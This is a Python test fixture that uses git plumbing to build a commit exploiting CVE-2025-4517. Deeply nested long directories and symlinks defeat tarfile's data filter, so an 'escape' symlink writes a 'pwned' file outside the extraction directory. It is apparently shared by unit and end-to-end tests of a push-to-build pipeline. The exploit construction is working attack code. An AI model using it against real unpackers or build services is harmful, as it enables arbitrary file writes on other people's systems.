"""A commit that writes outside any directory a link-following unpacker extracts it into.

The tree is the CVE-2025-4517 shape, which bypasses ``tarfile``'s ``data`` filter on
Python before 3.11.13: sixteen nested 247-character directories, each next to a
one-letter symlink to it, so ``a/b/.../p`` is a path far longer than PATH_MAX once
resolved and ``os.path.realpath`` gives up; a symlink at its end back up to the top; and
``escape``, a symlink through that chain up ``depth`` directories to an absolute target,
then a file ``escape/pwned``. git refuses to make such a tree (a name twice in one
tree), so it is written with ``git hash-object -t tree --literally``.

Shared by the unit tests and the e2e suite, which pushes it with a real ``git push``.
"""

from __future__ import annotations

import subprocess
from collections.abc import Mapping, Sequence
from pathlib import Path

STEPS = "abcdefghijklmnop"
LONG_DIR = "d" * 247
LONG_LINK = "l" * 254
LINK = "120000"
FILE = "100644"
TREE = "40000"
PAYLOAD = b"written by a pushed commit\n"


def _git(repo: Path, *args: str, data: bytes | None = None) -> str:
    out = subprocess.run(["git", *args], cwd=repo, input=data, capture_output=True,
                         check=True)
    return out.stdout.decode().strip()


def _blob(repo: Path, data: bytes) -> str:
    return _git(repo, "hash-object", "-w", "--stdin", data=data)


def _tree(repo: Path, entries: Sequence[tuple[str, str, str]]) -> str:
    """A tree object of (mode, name, sha) entries, as given: duplicates and order kept."""
    raw = b"".join(
        f"{mode} {name}".encode() + b"\0" + bytes.fromhex(sha) for mode, name, sha in entries
    )
    return _git(repo, "hash-object", "-t", "tree", "--literally", "-w", "--stdin", data=raw)


def escape_link(depth: int, target: Path) -> str:
    """The text of ``escape``: for an unpack into a directory ``depth`` levels deep."""
    return "/".join(STEPS) + "/" + LONG_LINK + "/.." * depth + str(target)


def crafted_tree(repo: Path, depth: int, target: Path,
                 extra: Mapping[str, bytes] | None = None) -> str:
    """The crafted tree in ``repo`` (an existing git repository); returns its sha.

    Entries are in the order an unpacker must meet them (git would sort them): the
    chain of long directories first, then the links through it. ``extra`` adds regular
    files at the top (an app, so detection passes and the tree reaches the image build).
    """
    to_long_dir = _blob(repo, LONG_DIR.encode())
    # git archive leaves empty trees out: the deepest directory holds a file
    chain = _tree(repo, [(FILE, "x", _blob(repo, b""))])
    for step in reversed(STEPS[1:]):
        # inside each long directory: the next one, and a one-letter link to it
        chain = _tree(repo, [(TREE, LONG_DIR, chain), (LINK, step, to_long_dir)])
    # a/b/.../p/<254 x l>, reached through the one-letter links: back up to the top
    through = _tree(repo, [(LINK, LONG_LINK, _blob(repo, b"../" * len(STEPS)))])
    for step in reversed(STEPS[1:]):
        through = _tree(repo, [(TREE, step, through)])
    escape = _tree(repo, [(FILE, "pwned", _blob(repo, PAYLOAD))])
    top = [
        (TREE, LONG_DIR, chain),
        (LINK, STEPS[0], to_long_dir),
        (TREE, STEPS[0], through),
        (LINK, "escape", _blob(repo, escape_link(depth, target).encode())),
        (TREE, "escape", escape),
    ]
    top += [(FILE, name, _blob(repo, data)) for name, data in sorted((extra or {}).items())]
    return _tree(repo, top)


def crafted_commit(repo: Path, depth: int, target: Path,
                   extra: Mapping[str, bytes] | None = None) -> str:
    """A commit of the crafted tree (``repo`` needs a committer identity in its env)."""
    tree = crafted_tree(repo, depth, target, extra)
    return _git(repo, "commit-tree", tree, "-m", "crafted tree")
